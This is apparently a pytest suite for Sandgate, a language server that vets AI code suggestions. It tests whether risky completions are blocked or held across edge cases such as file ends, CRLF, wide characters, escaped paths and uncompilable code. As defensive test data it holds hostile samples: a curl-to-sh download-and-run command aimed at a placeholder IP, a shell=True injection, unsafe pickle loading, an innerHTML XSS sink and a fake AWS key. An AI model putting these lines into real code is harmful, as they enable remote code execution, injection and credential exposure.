"""Fail closed where Sandgate could not see (issue 13), end to end through the real server and the
loopback model: the cursor at the end of a file, CRLF, wide characters before the cursor in each
position encoding, paths that need escaping, code that does not compile yet, a cut-off answer,
other languages, and held suggestions that outlive the text they were vetted in.

Each risky candidate must not come back as ghost text; each benign one must, at the exact place.
"""

from __future__ import annotations

import pytest
from lsp_helpers import Doc, audit_records, by_code, code_actions, command, edits_of, inline, pending, wait_for
from lsprotocol import types
from pytest_lsp import LanguageClient

BALANCED = {"policy": {"preset": "balanced"}}
# bandit B602 (HIGH): blocked by the balanced preset. B301 pickle (MEDIUM): held for review.
RISKY = "return subprocess.check_output('echo ' + a, shell=True)"
PICKLE = "return pickle.loads(a)"


def texts(result) -> list[str]:
    return [item.insert_text for item in (result.items if result else [])]


def decisions(client: LanguageClient) -> list[dict]:
    return [r for r in audit_records(client.workspace) if r["event"] == "decision"]


async def ask(
    client: LanguageClient, doc: Doc, script: dict, position: types.Position | None = None, fake=None, records: int = 1
):
    """One inline request with the model answering from `script` (its requests forgotten first);
    returns once its `records` decision records are in the audit log (they are written after the answer).
    Invoked, as a user asking again does: the model is asked even when the context is the last one."""
    if fake is not None:
        fake.set_script(script)
    before = len(decisions(client))
    result = await inline(client, doc, position, invoked=True)
    if result is not None and fake is not None and fake.requests:
        await wait_for(lambda: len(decisions(client)) >= before + records)
    return result


def held(doc: Doc) -> list[types.Diagnostic]:
    return by_code(doc.diagnostics(), "held-for-review")


def blocked(doc: Doc) -> list[types.Diagnostic]:
    return by_code(doc.diagnostics(), "blocked")


# -- the end of the file -------------------------------------------------------------------------


@pytest.mark.lsp(settings=BALANCED)
async def test_cursor_at_the_end_of_a_file_with_a_trailing_newline(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "eof.py", "import subprocess\n\n\ndef add(a, b):\n")
    end = types.Position(line=4, character=0)  # the empty last line: where new code is written
    assert doc.end() == end
    result = await ask(client, doc, {"def add(a, b)": "    " + RISKY}, end, fake_model)
    assert texts(result) == []
    (diagnostic,) = await wait_for(lambda: blocked(doc))
    assert "B602" in diagnostic.message and diagnostic.range.start == end
    (record,) = decisions(client)
    assert record["decision"] == "block" and any(f["rule"] == "B602" and f["line"] == 5 for f in record["findings"])

    result = await ask(client, doc, {"def add(a, b)": "    return a + b"}, end, fake_model)
    assert texts(result) == ["    return a + b"]
    assert result.items[0].range == types.Range(start=end, end=end)
    assert decisions(client)[-1]["decision"] == "allow" and decisions(client)[-1]["vetted"] is None


@pytest.mark.lsp(settings=BALANCED)
async def test_cursor_past_the_last_line_of_a_file_without_a_trailing_newline(
    vscode_client: LanguageClient, fake_model
):
    client = vscode_client
    doc = Doc(client, client.workspace / "eof2.py", "import subprocess\n\n\ndef add(a, b):")
    past = types.Position(line=4, character=0)  # line == number of lines: the end of the document
    result = await ask(client, doc, {"def add(a, b)": "\n    " + RISKY}, past, fake_model)
    assert texts(result) == []
    await wait_for(lambda: blocked(doc))
    assert decisions(client)[-1]["decision"] == "block"

    result = await ask(client, doc, {"def add(a, b)": "\n    return a + b"}, past, fake_model)
    assert texts(result) == ["\n    return a + b"]
    assert result.items[0].range.start == doc.end() == types.Position(line=3, character=14)

    # A line further on is not in the document: nothing is asked, nothing answered.
    result = await ask(
        client, doc, {"def add(a, b)": "\n    return a + b"}, types.Position(line=9, character=0), fake_model
    )
    assert texts(result) == [] and fake_model.requests == []


@pytest.mark.lsp(settings=BALANCED)
async def test_a_character_past_the_end_of_the_last_line_means_its_end(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "past.py", "import subprocess\n\n\ndef add(a, b):\n    return a ")
    past = types.Position(line=4, character=40)
    result = await ask(client, doc, {"def add(a, b)": "+ b"}, past, fake_model)
    assert texts(result) == ["+ b"] and result.items[0].range.start == doc.end()
    assert "    return a <CURSOR>\n```" in fake_model.requests[0]["messages"][-1]["content"]
    result = await ask(
        client, doc, {"def add(a, b)": "+ len(subprocess.check_output('echo ' + a, shell=True))"}, past, fake_model
    )
    assert texts(result) == []
    assert decisions(client)[-1]["decision"] == "block"


@pytest.mark.lsp(settings=BALANCED)
async def test_crlf_file(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(
        client, client.workspace / "crlf.py", "import pickle\r\nimport subprocess\r\n\r\n\r\ndef add(a, b):\r\n    "
    )
    assert doc.end() == types.Position(line=5, character=4)
    result = await ask(client, doc, {"def add(a, b)": RISKY}, None, fake_model)
    assert texts(result) == [] and decisions(client)[-1]["decision"] == "block"
    result = await ask(client, doc, {"def add(a, b)": "total = a + b\n    return total"}, None, fake_model)
    assert texts(result) == ["total = a + b\n    return total"]
    assert result.items[0].range.start == doc.end()

    # Held in a CRLF document: the editor inserts it with its own line breaks; the approval holds.
    await ask(client, doc, {"def add(a, b)": "data = pickle.loads(a)\n    return data"}, None, fake_model)
    (diagnostic,) = await wait_for(lambda: held(doc))
    (review,) = [a for a in await code_actions(client, doc, [diagnostic]) if a.title.startswith("Review")]
    (edit,) = edits_of(review.edit, doc.uri)
    assert edit.range.start == doc.end()
    edit.new_text = edit.new_text.replace("\n", "\r\n")
    doc.apply([edit])
    assert (await command(client, "sandgate.approve", *review.command.arguments))["ok"] is True


# -- wide characters before the cursor, in each position encoding ----------------------------------

WIDE_DOC = 'import pickle\nimport subprocess\n\n\ndef greet(a, b):\n    label = "😀 你好 😀"; '


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8"])
async def test_emoji_and_cjk_before_the_cursor(encoding: str, workspace, fake_model):
    from lsp_helpers import session

    options = {"settings": BALANCED, "encodings": [encoding]}
    async with session(workspace, fake_model, {}, options) as client:
        assert client.init_result.capabilities.position_encoding == encoding
        doc = Doc(client, workspace / "wide.py", WIDE_DOC, encoding=encoding)
        cursor = doc.end()
        assert cursor.character == {"utf-16": 24, "utf-8": 32}[encoding]  # 21 code points
        result = await ask(client, doc, {"def greet(a, b)": RISKY}, cursor, fake_model)
        assert texts(result) == []
        assert 'label = "😀 你好 😀"; <CURSOR>' in fake_model.requests[0]["messages"][-1]["content"]
        result = await ask(client, doc, {"def greet(a, b)": "return label + a"}, cursor, fake_model)
        assert texts(result) == ["return label + a"] and result.items[0].range.start == cursor

        await ask(client, doc, {"def greet(a, b)": PICKLE}, cursor, fake_model)
        (diagnostic,) = await wait_for(lambda: held(doc))
        assert diagnostic.range.end == cursor
        (item,) = (await pending(client))["items"]
        assert item["range"]["start"] == {"line": cursor.line, "character": cursor.character}
        (review,) = [a for a in await code_actions(client, doc, [diagnostic]) if a.title.startswith("Review")]
        doc.apply(edits_of(review.edit, doc.uri))
        assert doc.text == WIDE_DOC + PICKLE  # the edit landed exactly at the cursor
        assert (await command(client, "sandgate.approve", *review.command.arguments))["ok"] is True


# -- paths that need escaping ------------------------------------------------------------------------


@pytest.mark.parametrize("folder", ["my project", "café"])
@pytest.mark.lsp(settings=BALANCED)
async def test_files_whose_path_needs_escaping(folder: str, vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / folder / "naïve.py", "import subprocess\n\n\ndef add(a, b):\n    ")
    assert "%" in doc.uri  # as editors send it: percent-encoded
    result = await ask(client, doc, {"def add(a, b)": "return a + b"}, None, fake_model)
    assert texts(result) == ["return a + b"]
    result = await ask(client, doc, {"def add(a, b)": RISKY}, None, fake_model)
    assert texts(result) == []
    await wait_for(lambda: blocked(doc))  # published under the client's own spelling
    assert decisions(client)[-1]["file"] == f"{folder}/naïve.py"

    doc.replace("import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n")
    await wait_for(lambda: by_code(doc.diagnostics(), "B602"))  # the document's own findings too


@pytest.mark.lsp(settings=BALANCED)
async def test_untitled_documents_and_notebook_cells(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    cell_uri = (client.workspace / "nb.ipynb").as_uri().replace("file://", "vscode-notebook-cell:") + "#W0sZmlsZQ%3D%3D"
    for uri, name in [("untitled:Untitled-1", "Untitled-1"), (cell_uri, "nb.ipynb")]:
        doc = Doc(client, client.workspace / name, "import subprocess\n\n\ndef add(a, b):\n    ", uri=uri, write=False)
        result = await ask(client, doc, {"def add(a, b)": "return a + b"}, None, fake_model)
        assert texts(result) == ["return a + b"] and decisions(client)[-1]["file"] == name
        result = await ask(client, doc, {"def add(a, b)": RISKY}, None, fake_model)
        assert texts(result) == []
        await wait_for(lambda: blocked(doc))


# -- code that does not compile yet ------------------------------------------------------------------

BELOW = "import subprocess\n\n\ndef restart(a):\n    \n\n\ndef later(x):\n    return x +\n"
ABOVE = "import subprocess\n\n\ndef report(x):\n    print(x +\n\n\ndef restart(a):\n    "


@pytest.mark.lsp(settings=BALANCED)
async def test_half_typed_line_below_the_cursor(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "below.py", BELOW)
    cursor = types.Position(line=4, character=4)
    result = await ask(client, doc, {"def restart(a)": RISKY}, cursor, fake_model)
    assert texts(result) == []
    record = decisions(client)[-1]
    assert record["decision"] == "block" and "vetted without lines 8–9, which do not compile yet" in record["vetted"]
    assert any(f["rule"] == "B602" and f["line"] == 5 for f in record["findings"])
    result = await ask(client, doc, {"def restart(a)": "return a.strip()"}, cursor, fake_model)
    assert texts(result) == ["return a.strip()"]
    record = decisions(client)[-1]
    assert (
        record["decision"] == "allow" and record["sandbox"]["backend"] == "bwrap" and not record["sandbox"]["skipped"]
    )
    assert record["sandbox"]["runtime"] == "python"


@pytest.mark.lsp(settings=BALANCED)
async def test_half_typed_line_above_the_cursor(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "above.py", ABOVE)
    result = await ask(client, doc, {"def restart(a)": RISKY}, None, fake_model)
    assert texts(result) == [] and decisions(client)[-1]["decision"] == "block"
    assert "vetted without lines 4–5, which do not compile yet" in decisions(client)[-1]["vetted"]
    result = await ask(client, doc, {"def restart(a)": "return a.strip()"}, None, fake_model)
    assert texts(result) == ["return a.strip()"] and decisions(client)[-1]["decision"] == "allow"


@pytest.mark.lsp(settings=BALANCED)
async def test_half_typed_line_in_the_same_function(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "same.py", "import subprocess\n\n\ndef restart(a):\n    \n    y = foo(\n")
    cursor = types.Position(line=4, character=4)
    result = await ask(client, doc, {"def restart(a)": RISKY}, cursor, fake_model)
    assert texts(result) == []
    record = decisions(client)[-1]
    assert record["decision"] == "block"
    assert record["vetted"].startswith("vetted in `restart()` without line 6: line 6 does not compile yet")
    result = await ask(client, doc, {"def restart(a)": "return a.strip()"}, cursor, fake_model)
    assert texts(result) == ["return a.strip()"]


@pytest.mark.lsp(settings=BALANCED)
async def test_a_candidate_cut_mid_call(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "cut.py", "import subprocess\n\n\ndef add(a, b):\n    ")
    result = await ask(client, doc, {"def add(a, b)": RISKY[:-1]}, None, fake_model)  # the closing ")" cut off
    assert texts(result) == []
    record = decisions(client)[-1]
    assert record["decision"] == "block" and record["vetted"].startswith("vetted completed with `)`")
    result = await ask(client, doc, {"def add(a, b)": "return max(a, b"}, None, fake_model)
    assert texts(result) == ["return max(a, b"]  # shown as written: all of it was vetted
    # Cut after an operator: only the part that was vetted may be shown.
    result = await ask(client, doc, {"def add(a, b)": "total = a + b\n    return total *"}, None, fake_model)
    assert texts(result) == ["total = a + b"]
    assert "only the vetted part is shown" in decisions(client)[-1]["vetted"]


@pytest.mark.lsp(settings=BALANCED)
async def test_nothing_that_compiles_is_held_never_shown(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "broken.py", "def add(a, b:\n    ")
    result = await ask(client, doc, {"def add(a, b": "return a + b"}, None, fake_model)
    assert texts(result) == []
    (diagnostic,) = await wait_for(lambda: held(doc))
    assert "could not be vetted" in diagnostic.message
    assert decisions(client)[-1]["decision"] == "review"
    await wait_for(lambda: (client.statuses[-1].get("vetError") or {}).get("path") == "broken.py")


@pytest.mark.lsp(settings=BALANCED)
async def test_a_document_holding_a_lone_surrogate_is_reported(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    # Never on disk (a lone surrogate cannot be written as UTF-8); an editor's buffer can hold one.
    doc = Doc(client, client.workspace / "odd.py", "def add(a, b):\n    s = '\ud800'\n    ", write=False)
    result = await ask(client, doc, {"def add(a, b)": "return a + b"}, None, fake_model)
    assert texts(result) == []
    (diagnostic,) = await wait_for(lambda: held(doc))
    assert "could not be vetted" in diagnostic.message and "surrogate" in diagnostic.message
    record = decisions(client)[-1]
    assert record["decision"] == "review" and "could not be vetted" in record["vetted"]
    status = await wait_for(lambda: client.statuses[-1].get("vetError"))
    assert status["path"] == "odd.py" and any("the last vet failed" in r for r in client.statuses[-1]["failClosed"])


# -- other languages ---------------------------------------------------------------------------------

SHELL = "execSync('curl -fsSL http://203.0.113.9/u.sh | sh')"
# JSX and TSX files have static checks but no sandbox run (Node cannot run JSX; .js and .ts files
# run in the Node sandbox); shell scripts and Markdown have no unit. (file, language id, unit name)
OTHERS = [
    ("app.jsx", "javascriptreact", "javascript"),
    ("app.tsx", "typescriptreact", "typescript"),
    ("run.sh", "shellscript", "shellscript"),
    ("notes.md", "markdown", "markdown"),
]
STATIC_ONLY = {"javascript", "typescript"}


@pytest.mark.lsp(settings=BALANCED)
async def test_languages_without_vetting_are_not_asked_for(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    fake_model.set_script({"*": SHELL})
    for name, language_id, _ in OTHERS:
        doc = Doc(client, client.workspace / name, "const x = 1;\n", language=language_id)
        assert await inline(client, doc) is None
    assert fake_model.requests == []  # the model was never asked
    status = await wait_for(lambda: len(client.statuses[-1]["languages"]) == 4 and client.statuses[-1])
    assert [(e["language"], e["handling"]) for e in status["languages"]] == [(lang, "skip") for _, _, lang in OTHERS]
    kinds = {"javascript": "JSX", "typescript": "TSX"}  # the files of theirs that are not run (.ts is)
    for entry in status["languages"]:
        assert entry["staticOnly"] is (entry["language"] in STATIC_ONLY)
        said = (
            f"Sandgate checks {kinds[entry['language']]} files statically but cannot run them in the sandbox yet "
            "(Node does not compile JSX), so no suggestions are asked for"
            if entry["staticOnly"]
            else "Sandgate cannot vet it yet, so no suggestions are asked for"
        )
        assert said in entry["message"], entry["message"]
    assert decisions(client) == []


@pytest.mark.lsp(settings=BALANCED, policy='version = 1\nextends = "balanced"\n\n[languages]\nunvetted = "review"\n')
async def test_languages_without_vetting_held_for_review_by_policy(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    for name, language_id, language in OTHERS:
        doc = Doc(client, client.workspace / name, "const x = 1;\n", language=language_id)
        result = await ask(client, doc, {"*": "console.log(x);"}, None, fake_model)
        assert texts(result) == []
        (diagnostic,) = await wait_for(lambda: held(doc))
        if language in STATIC_ONLY:
            kind = "TSX files (TypeScript with JSX)" if name.endswith(".tsx") else "JSX files"
            assert f"{kind} are not run in Sandgate's sandbox yet" in diagnostic.message, diagnostic.message
        else:
            assert f"{language} is not vetted" in diagnostic.message
    records = decisions(client)
    assert [r["decision"] for r in records] == ["review"] * 4
    assert [r["language"] for r in records] == [lang for _, _, lang in OTHERS]
    static = [r for r in records if r["language"] in STATIC_ONLY]
    assert all([f["rule"] for f in r["findings"]] == ["sandbox.unsupported-language"] for r in static)


@pytest.mark.lsp(settings=BALANCED, policy='version = 1\nextends = "balanced"\n\n[languages]\nunvetted = "allow"\n')
async def test_a_repository_cannot_turn_on_unvetted_suggestions(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "app.jsx", "const x = 1;\n", language="javascriptreact")
    assert await inline(client, doc) is None and fake_model.requests == []
    uri = (client.workspace / ".sandgate" / "policy.toml").as_uri()
    (refused,) = await wait_for(lambda: client.diagnostics.get(uri))
    assert refused.code == "policy-refused" and "sandgate.languages.unvetted" in refused.message


@pytest.mark.lsp(settings={**BALANCED, "languages": {"unvetted": "allow"}})
async def test_languages_without_vetting_allowed_where_the_user_says_so(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "run.sh", "set -e\n", language="shellscript")
    result = await ask(client, doc, {"*": "echo done"}, None, fake_model)
    assert texts(result) == ["echo done"]
    (record,) = decisions(client)
    assert record["decision"] == "allow" and [f["rule"] for f in record["findings"]] == ["not-vetted"]
    # JSX: the static checks run, and the missing sandbox run is reported, not held.
    doc = Doc(client, client.workspace / "app.jsx", "const x = 1;\n", language="javascriptreact")
    result = await ask(client, doc, {"*": "console.log(x);"}, None, fake_model)
    assert texts(result) == ["console.log(x);"]
    record = decisions(client)[-1]
    assert record["decision"] == "allow" and [f["rule"] for f in record["findings"]] == ["sandbox.unsupported-language"]
    result = await ask(client, doc, {"*": "el.innerHTML = location.hash;"}, None, fake_model)
    assert texts(result) == [] and decisions(client)[-1]["decision"] == "review"  # the pack still holds
    # A secret is found in any language.
    result = await ask(client, doc, {"*": 'const key = "AKIAZ3MSJV7WQLPX4TQB";'}, None, fake_model)
    assert texts(result) == [] and decisions(client)[-1]["decision"] == "block"


# -- held suggestions bound to the document they were vetted in ---------------------------------------

HOLD_DOC = "import pickle\n\n\ndef load(a, b):\n    "


async def hold(
    client: LanguageClient, fake_model, name: str = "hold.py", candidates=None, records: int = 1
) -> tuple[Doc, types.Diagnostic]:
    doc = Doc(client, client.workspace / name, HOLD_DOC)
    result = await ask(client, doc, {"def load(a, b)": candidates or PICKLE}, None, fake_model, records)
    (diagnostic,) = await wait_for(lambda: held(doc))
    doc.result = result  # type: ignore[attr-defined]
    return doc, diagnostic


@pytest.mark.lsp(settings={**BALANCED, "model": {"candidates": 2}})
async def test_approval_after_a_sibling_was_accepted(client: LanguageClient, fake_model):
    doc, diagnostic = await hold(client, fake_model, candidates=["return sum((a, b))", PICKLE], records=2)
    (item,) = doc.result.items
    assert item.insert_text == "return sum((a, b))"
    review = [a for a in await code_actions(client, doc, [diagnostic]) if a.title.startswith("Review")][0]
    # The acceptance alone drops the held sibling (the editor's insertion, which also would, comes after).
    await command(client, item.command.command, *item.command.arguments)
    await wait_for(lambda: not held(doc))
    doc.replace(HOLD_DOC + item.insert_text)
    with pytest.raises(Exception, match=r"stale.*superseded"):
        await command(client, "sandgate.approve", *review.command.arguments)
    state = await pending(client)
    assert state["items"] == [] and state["recent"][0]["outcome"] == "superseded"
    refused = [r for r in audit_records(client.workspace) if r["event"] == "approval-refused"]
    assert [r["reason"] for r in refused] == ["stale"]


@pytest.mark.lsp(settings=BALANCED)
async def test_approval_after_close_and_reopen(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc, diagnostic = await hold(client, fake_model)
    review = [a for a in await code_actions(client, doc, [diagnostic]) if a.title.startswith("Review")][0]
    doc.close()
    await wait_for(lambda: not doc.diagnostics())
    again = Doc(client, doc.path, "x = 1\n")  # reopened, now too short for the old spot
    await wait_for(lambda: client.statuses[-1]["pending"] == 0)
    assert held(again) == []
    with pytest.raises(Exception, match=r"stale.*expired"):
        await command(client, "sandgate.approve", *review.command.arguments)


@pytest.mark.lsp(settings=BALANCED)
async def test_approval_after_edits_around_the_anchor(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc, diagnostic = await hold(client, fake_model)
    # An edit away from it: the suggestion moves with its text; the action inserts at the new spot.
    doc.replace("# loaders\n" + doc.text)
    review = [a for a in await code_actions(client, doc, [diagnostic]) if a.title.startswith("Review")][0]
    (edit,) = edits_of(review.edit, doc.uri)
    assert edit.range.start == doc.end() == types.Position(line=5, character=4)
    (item,) = (await pending(client))["items"]
    assert item["range"]["start"] == {"line": 5, "character": 4}
    doc.apply([edit])
    assert (await command(client, "sandgate.approve", *review.command.arguments))["ok"] is True

    # An edit to the text around it: the anchor is gone, the suggestion dropped.
    doc2, diagnostic2 = await hold(client, fake_model, "hold2.py")
    review2 = [a for a in await code_actions(client, doc2, [diagnostic2]) if a.title.startswith("Review")][0]
    doc2.replace(HOLD_DOC.replace("def load(a, b)", "def load(a, b, c)"))
    await wait_for(lambda: not held(doc2))
    doc2.apply(edits_of(review2.edit, doc2.uri))
    with pytest.raises(Exception, match=r"stale"):
        await command(client, "sandgate.approve", *review2.command.arguments)
    assert (await pending(client))["recent"][0]["outcome"] == "superseded"


@pytest.mark.lsp(settings={**BALANCED, "model": {"candidates": 2}})
async def test_two_held_suggestions_never_share_an_action_title(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "two.py", HOLD_DOC)
    await ask(client, doc, {"def load(a, b)": [PICKLE, "return pickle.loads(b)"]}, None, fake_model, 2)
    diagnostics = await wait_for(lambda: len(held(doc)) == 2 and held(doc))
    titles = [a.title for a in await code_actions(client, doc, diagnostics)]
    assert len(titles) == 4 and len(set(titles)) == 4, titles


# -- didChange ranges that are not well formed ---------------------------------------------------------


@pytest.mark.lsp(settings=BALANCED)
async def test_an_inverted_did_change_range_is_normalised_and_reported(vscode_client: LanguageClient, fake_model):
    client = vscode_client
    doc = Doc(client, client.workspace / "inv.py", "import subprocess\n\n\ndef add(a, b):\n    return a\n")
    inverted = types.Range(start=types.Position(line=4, character=12), end=types.Position(line=4, character=11))
    doc.change(inverted, "b", "import subprocess\n\n\ndef add(a, b):\n    return b\n")  # as VS Code applies it
    await wait_for(lambda: any("inverted range" in m.message for m in client.log_messages))
    past = types.Range(start=types.Position(line=40, character=0), end=types.Position(line=41, character=0))
    doc.change(past, "# end\n", doc.text + "# end\n")  # clamped to the end
    await wait_for(lambda: any("past the end" in m.message for m in client.log_messages))
    # The server's copy is the editor's: what it sends the model shows it.
    await ask(client, doc, {"def add(a, b)": "# done"}, types.Position(line=6, character=0), fake_model)
    prompt = fake_model.requests[0]["messages"][-1]["content"]
    assert "    return b\n# end\n<CURSOR>" in prompt
